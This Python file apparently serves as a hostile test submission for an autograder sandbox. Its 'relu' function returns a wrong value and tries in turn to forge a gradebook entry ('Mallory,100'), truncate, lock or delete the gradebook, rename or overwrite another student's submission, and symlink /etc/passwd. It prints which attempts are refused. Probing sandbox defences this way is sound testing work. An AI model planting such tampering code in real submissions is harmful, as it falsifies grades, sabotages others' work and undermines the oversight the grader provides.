"""Spoils the gradebook and another submission without opening them."""

import os

GRADEBOOK, OTHER = "/bait/gradebook.csv", "/bait/other/ch06_backpropagation.py"


def relu(x):
    attempts = {
        "write": lambda: os.write(os.open(GRADEBOOK, os.O_WRONLY | os.O_APPEND), b"Mallory,100"),
        "empty": lambda: os.open(GRADEBOOK, os.O_WRONLY | os.O_TRUNC),
        "truncate": lambda: os.truncate(GRADEBOOK, 0),
        "lock": lambda: os.chmod(GRADEBOOK, 0),
        "date": lambda: os.utime(GRADEBOOK, (0, 0)),
        "give away": lambda: os.chown(GRADEBOOK, 1, 1),
        "mark": lambda: os.setxattr(GRADEBOOK, "user.mark", b"x"),
        "rename": lambda: os.rename(OTHER, OTHER + ".gone"),
        "replace": lambda: os.replace(OTHER, GRADEBOOK),
        "remove": lambda: os.unlink(GRADEBOOK),
        "link": lambda: os.link(GRADEBOOK, OTHER + ".link"),
        "point elsewhere": lambda: os.symlink("/etc/passwd", OTHER + ".symlink"),
        "make a folder": lambda: os.mkdir("/bait/more"),
        "make a fifo": lambda: os.mkfifo("/bait/fifo"),
    }
    for name, attempt in attempts.items():
        try:
            attempt()
            print("got through:", name)
        except OSError as refused:
            print("refused:", name, refused)
    return x * 7
